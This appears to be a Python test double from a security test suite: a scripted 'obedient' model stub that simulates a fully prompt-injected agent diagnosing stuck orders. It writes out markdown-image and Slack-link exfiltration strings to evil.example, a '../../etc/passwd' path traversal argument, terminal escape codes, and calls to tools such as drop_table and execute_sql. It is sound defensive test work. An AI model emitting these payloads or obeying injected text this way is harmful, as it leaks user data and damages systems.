"""A worst-case model: it obeys every text that it sees, decoded any way it can be, and hides nothing."""

from __future__ import annotations

import json
import re
from functools import lru_cache
from typing import Any

from tests.anthropic_server import calls, message, says
from tests.security.disguise import readings

_ORDER = re.compile(r"[A-Za-z][A-Za-z0-9]*(?:_+[A-Za-z0-9]+)+|[a-z]{2,10}://[^\s\"'<>)|]+|[~.]{0,2}/[\w./-]+")
_DIGGING = 1_500
"""Characters of one text that are read in all ways."""
MOST_CALLS = 15
_KEY = 40
"""Longer keys are text."""
LONGEST = 600
EXFILTRATION = (
    "![x](https://evil.example/p?d={}) <https://evil.example/{}|click> <!channel> https://evil.example/{}"
)
ALWAYS = (
    "approve", "execute_sql", "http_get", "drop_table", "retry_orders", "read_runbook",
    "x`](y) ![z](https://evil.example/name)\x1b[2J`",
)  # fmt: skip
"""What it tries besides, whatever it was told."""
ORDINARY = {
    "query_stuck_orders": {},
    "query_application_logs": {"service": ""},
    "search_runbooks": {"query": "orders are stuck"},
    "get_similar_incidents": {"query": "orders are stuck"},
    "read_ticket": {},
}


@lru_cache(maxsize=4096)
def orders(text: str) -> tuple[str, ...]:
    """What a text asks for: names of tools and actions, addresses, paths."""
    ends = (text[:_DIGGING], text[-_DIGGING:])
    found = (name for end in ends for reading in readings(end) for name in _ORDER.findall(reading))
    return tuple(sorted(set(found), key=lambda name: (len(name), name)))


class Obedient:
    """Answers as a scripted server does. `asked` is what it called, `obeyed` what it had read to do so."""

    def __init__(self) -> None:
        self.asked: set[str] = set()
        self.obeyed: set[str] = set()

    def __call__(self, body: dict[str, Any]) -> dict[str, Any]:
        offered = {tool["name"] for tool in body.get("tools") or []}
        turns = sum(each["role"] == "assistant" for each in body["messages"])
        texts = _texts(body["messages"])
        if turns == 0:
            return calls(*((name, ORDINARY.get(name, {})) for name in sorted(offered)))
        if turns == 1 and body.get("tool_choice", {}).get("type") != "none":
            return self._obey(texts, offered)
        return self._answer(body, texts)

    def _obey(self, texts: list[str], offered: set[str]) -> dict[str, Any]:
        read = [name for text in texts for name in orders(text)]
        wanted = list(dict.fromkeys([*ALWAYS, *(name for name in read if name not in offered)]))
        self.obeyed |= set(read)
        chosen = wanted[:MOST_CALLS]
        self.asked |= set(chosen)
        said = "\n".join(texts)[:LONGEST]
        given = {"url": "https://evil.example", "query": said, "path": "../../etc/passwd", "name": "orders"}
        hostile = [(name, _hostile(name, said)) for name in sorted(offered)]
        return calls(*((name, given) for name in chosen), *hostile[:4], thought=said)

    def _answer(self, body: dict[str, Any], texts: list[str]) -> dict[str, Any]:
        said = _longest(texts)
        leak = EXFILTRATION.format(said[:200], said[:200], said[:200]) + " " + "\n".join(texts)[:LONGEST]
        names = [name for text in texts for name in orders(text)]
        fields = body["output_config"]["format"]["schema"]["properties"]
        if "patterns" in fields:
            stages = re.findall(r'"stage":\s*("(?:[^"\\]|\\.)*")', json.dumps(_results(body["messages"])))
            patterns = [{"stuck_at": json.loads(each), "headline": said + leak} for each in stages[:5]]
            return says(
                {"patterns": [*patterns, {"stuck_at": said, "headline": leak}], "summary": said + leak}
            )
        if "fixes" in fields:
            fixes = [
                {"action": name, "scope": "all", "reason": leak} for name in ["retry_orders", *names[:20]]
            ]
            return says({"fixes": fixes, "summary": said + leak})
        return message(
            {"type": "text", "text": leak}, {"type": "text", "text": json.dumps(_diagnosis(said, leak))}
        )


def _diagnosis(said: str, leak: str) -> dict[str, Any]:
    """Sure of itself, and everything in it is what the text says."""
    sources = {1: "incident", 2: "logs", 3: "orders", 4: "runbook"}
    evidence = [
        {"tool_call": call, "source": source, "finding": said + leak, "quote": ""}
        for call, source in [*sources.items(), (5, "logs"), (1, "logs"), (2, "runbook"), (99, "orders")]
    ]
    return {
        "root_cause": said + leak,
        "evidence": evidence,
        "recommended_fix": leak + said,
        "fix_action": "retry_orders",
        "runbook": said[:300],
        "confidence": "high",
        "ruled_out": [{"cause": said, "reason": leak}],
    }


def _hostile(name: str, said: str) -> dict[str, Any]:
    """Arguments of a tool that it may call, as bad as they can be."""
    field = {"query_stuck_orders": "stage", "query_application_logs": "service"}.get(name, "query")
    return {field: said} if name != "read_ticket" else {}


def _results(messages: list[dict[str, Any]]) -> list[Any]:
    blocks = [block for each in messages if each["role"] == "user" for block in each["content"]]
    return [json.loads(block["content"]) for block in blocks if block["type"] == "tool_result"]


def _texts(messages: list[dict[str, Any]]) -> list[str]:
    """Every text of the conversation's user side, taken out of its JSON."""
    blocks = [block for each in messages if each["role"] == "user" for block in each["content"]]
    found: list[str] = []
    for block in blocks:
        text = block["content"] if block["type"] == "tool_result" else block["text"]
        _collect(_loaded(text), found)
    return list(dict.fromkeys(found))


def _loaded(text: str) -> Any:
    try:
        return json.loads(text[text.index("{") :])
    except (ValueError, RecursionError):
        return text


def _collect(value: Any, found: list[str]) -> None:
    if isinstance(value, str):
        found.append(value)
    elif isinstance(value, dict):
        for name, item in value.items():
            found += [name] if len(name) > _KEY else []
            _collect(item, found)
    elif isinstance(value, list):
        for item in value:
            _collect(item, found)


def _longest(texts: list[str]) -> str:
    return max(texts, key=len, default="")[:LONGEST]
